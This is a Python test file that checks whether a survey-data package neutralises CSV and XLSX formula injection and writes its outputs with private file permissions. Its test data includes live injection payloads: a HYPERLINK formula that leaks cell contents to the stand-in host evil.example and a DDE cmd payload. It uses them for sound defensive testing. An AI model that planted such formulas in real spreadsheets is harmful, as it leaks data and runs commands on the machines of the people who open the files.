"""Formula-leading answers are inert in every CSV and XLSX the package writes (pull, export, release,
write_data), read back with the csv module, openpyxl and fastexcel; decrypted files are created 0600.
All answers are SYNTHETIC."""

from __future__ import annotations

import csv
import os
import stat
from pathlib import Path

import fastexcel
import openpyxl
import polars as pl
import pytest

from quietpoll.safe_output import neutralize_formulas

LIVE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
SAFE = ["-9", "+3.5", "-1e3", "plain", "a=b"]


def _csv_cells(path: Path, sep: str = ",") -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh, delimiter=sep))


def _assert_inert_cells(cells: list[str]) -> None:
    """No cell a spreadsheet would run: any cell starting with a formula character is a plain number."""
    for cell in cells:
        if cell and cell[0] in "=+-@\t\r":
            float(cell)  # -9, +3.5: numbers, not formulas


def _xlsx_cells(path: Path) -> list[object]:
    wb = openpyxl.load_workbook(path)  # formulas are kept as formulas (data_type "f") when not data_only
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                values.append(cell.value)
    for name in fastexcel.read_excel(path).sheet_names:
        fastexcel.read_excel(path).load_sheet_by_name(name).to_polars()  # readable, no error cells
    return values


def _private(path: Path) -> None:
    assert stat.S_IMODE(path.stat().st_mode) == 0o600, path


def test_neutralize_is_vectorized_and_keeps_numbers():
    frame = pl.DataFrame(
        {
            "text": LIVE + SAFE + [None],
            "n": list(range(-5, len(LIVE) + len(SAFE) - 4)),
            "cat": pl.Series(["=x"] * 6 + ["ok"] * 6, dtype=pl.Categorical),
            "=name": [1.5] * 12,
        }
    )
    out = neutralize_formulas(frame)
    assert out["text"].to_list() == ["'" + v for v in LIVE] + SAFE + [None]
    assert out["n"].dtype == pl.Int64 and out["n"].to_list() == frame["n"].to_list()
    assert out["cat"].to_list() == ["'=x"] * 6 + ["ok"] * 6
    assert out.columns == ["text", "n", "cat", "'=name"] and out["'=name"].dtype == pl.Float64


@pytest.mark.parametrize("ext", ["csv", "tsv", "xlsx"])
def test_write_data_is_inert_and_private(tmp_path, ext):
    from quietpoll.io import write_data

    frame = pl.DataFrame({"answer": LIVE + SAFE, "age": list(range(len(LIVE) + len(SAFE)))})
    out = tmp_path / f"r.{ext}"
    out.write_text("an older, world-readable file")
    os.chmod(out, 0o644)
    old = os.umask(0o022)
    try:
        write_data(frame, out)
    finally:
        os.umask(old)
    _private(out)  # a new file replaced the old one: created 0600, not chmod-ed
    if ext == "xlsx":
        cells = _xlsx_cells(out)
        quoted = [c.replace("_x000D_", "\r") for c in cells if isinstance(c, str) and c.startswith("'")]
        assert quoted == ["'" + v for v in LIVE]  # (openpyxl leaves xlsxwriter's escape of CR as _x000D_)
        back = pl.read_excel(out)
        assert back["age"].dtype.is_integer()
        assert back["answer"].to_list() == ["'" + v for v in LIVE] + SAFE
    else:
        rows = _csv_cells(out, "\t" if ext == "tsv" else ",")
        _assert_inert_cells([c for row in rows for c in row])
        assert [r[0] for r in rows[1:]] == ["'" + v for v in LIVE] + SAFE
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]  # no temporary file left


@pytest.fixture(scope="module")
def keypair(tmp_path_factory):
    from quietpoll.collect.keys import load_private, load_public, new_keys

    study = tmp_path_factory.mktemp("keys")
    pub, key = new_keys(study, "synthetic passphrase 1")
    return load_public(pub), load_private(key, "synthetic passphrase 1")


def test_pull_csv_and_xlsx_are_inert_and_private(tmp_path, keypair):
    from quietpoll.collect.envelope import seal
    from quietpoll.collect.store import Store, pull

    public, private = keypair
    store = Store.open("sqlite:///" + str(tmp_path / "c.db"))
    store.add_token("field-01")
    for i, answer in enumerate(LIVE + SAFE):
        iid = f"uuid:00000000-0000-4000-8000-{i:012d}"
        store.put("form_x", iid, seal(public, "form_x", iid, {"remark": answer, "age": 30 + i}), "field-01")
    for ext in ("csv", "xlsx"):
        out = tmp_path / f"pulled.{ext}"
        assert pull(store, private, out) == len(LIVE) + len(SAFE)
        _private(out)
        if ext == "csv":
            rows = _csv_cells(out)
            _assert_inert_cells([c for row in rows for c in row])
            remarks = [r[rows[0].index("remark")] for r in rows[1:]]
        else:
            _xlsx_cells(out)
            remarks = pl.read_excel(out)["remark"].to_list()
        assert sorted(remarks) == sorted(["'" + v for v in LIVE] + SAFE)
    store.close()


def test_pull_field_names_are_inert(tmp_path, keypair):
    """A submitter with a token and the public key can seal any field name: it becomes a header cell."""
    from quietpoll.collect.envelope import seal
    from quietpoll.collect.store import Store, pull

    public, private = keypair
    store = Store.open("sqlite:///" + str(tmp_path / "c.db"))
    store.put("form_x", "uuid:1", seal(public, "form_x", "uuid:1", {"=1+2": "x", "@A1": "y"}), "a")
    out = tmp_path / "p.csv"
    pull(store, private, out)
    header = _csv_cells(out)[0]
    assert "'=1+2" in header and "'@A1" in header
    _assert_inert_cells(header)
    store.close()


@pytest.fixture(scope="module")
def poisoned_study(tmp_path_factory):
    from quietpoll.demo_study import make_study

    study = make_study(tmp_path_factory.mktemp("inj") / "study")
    frame = pl.read_csv(study / "responses.csv", infer_schema_length=None)
    poisoned = frame.with_columns(pl.Series("intermediary", [LIVE[i % len(LIVE)] for i in range(frame.height)]))
    poisoned.write_csv(study / "responses.csv")  # written raw on purpose: the export must neutralize it
    return study


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_is_inert_and_private(poisoned_study, tmp_path, fmt):
    from quietpoll.report.exports import export_study

    result = export_study(poisoned_study, fmt, tmp_path / f"e.{fmt}")
    _private(result.path)
    if fmt == "csv":
        rows = _csv_cells(result.path)
        _assert_inert_cells([c for row in rows for c in row])
        column = [r[rows[0].index("intermediary")] for r in rows[1:]]
        _private(result.sidecar)
        _assert_inert_cells([c for row in _csv_cells(result.sidecar) for c in row])
    else:
        _xlsx_cells(result.path)
        column = pl.read_excel(result.path, sheet_name="data")["intermediary"].to_list()
    assert set(column) == {"'" + v for v in LIVE}


def test_default_export_folder_is_private(poisoned_study):
    from quietpoll.report.exports import export_study

    folder = poisoned_study / "exports"
    assert not folder.exists()
    path = export_study(poisoned_study, "parquet").path
    assert path.parent == folder and stat.S_IMODE(folder.stat().st_mode) == 0o700
    _private(path)


@pytest.mark.parametrize("ext", ["csv", "xlsx"])
def test_release_is_inert(tmp_path, ext):
    from quietpoll.disclosure.release import publish, release

    n = 60
    frame = pl.DataFrame(
        {
            "sex": ["f", "m"] * (n // 2),
            "region": ["north", "south", "east"] * (n // 3),
            "opinion": [LIVE[i % len(LIVE)] for i in range(n)],
            "score": list(range(n)),
        }
    )
    rel = release(frame, qi=["sex", "region"], k=3, free_text=())
    out = tmp_path / f"public.{ext}"
    publish(rel, out)
    if ext == "csv":
        rows = _csv_cells(out)
        _assert_inert_cells([c for row in rows for c in row])
        opinions = [r[rows[0].index("opinion")] for r in rows[1:]]
    else:
        _xlsx_cells(out)
        opinions = pl.read_excel(out)["opinion"].to_list()
    assert set(opinions) == {"'" + v for v in LIVE}


def test_cli_csv_tables_are_inert(tmp_path, capsys):
    """The CSV tables the CLI prints (estimate, crosstab, ...) go through the same rule: an answer level
    such as '=HYPERLINK(...)' is a row label of a proportion."""
    from quietpoll.cli import main

    data = tmp_path / "d.csv"
    pl.DataFrame({"answer": [LIVE[0], LIVE[3], "no", "-9"] * 10, "w": [1.0, 2.0, 1.5, 1.0] * 10}).write_csv(data)
    assert main(["estimate", str(data), "--weights", "w", "--prop", "answer", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    rows = list(csv.reader(out.splitlines()))
    _assert_inert_cells([c for row in rows for c in row])
    levels = [r[rows[0].index("level")] for r in rows[1:]]
    assert "'" + LIVE[0] in levels and "'" + LIVE[3] in levels and "-9" in levels
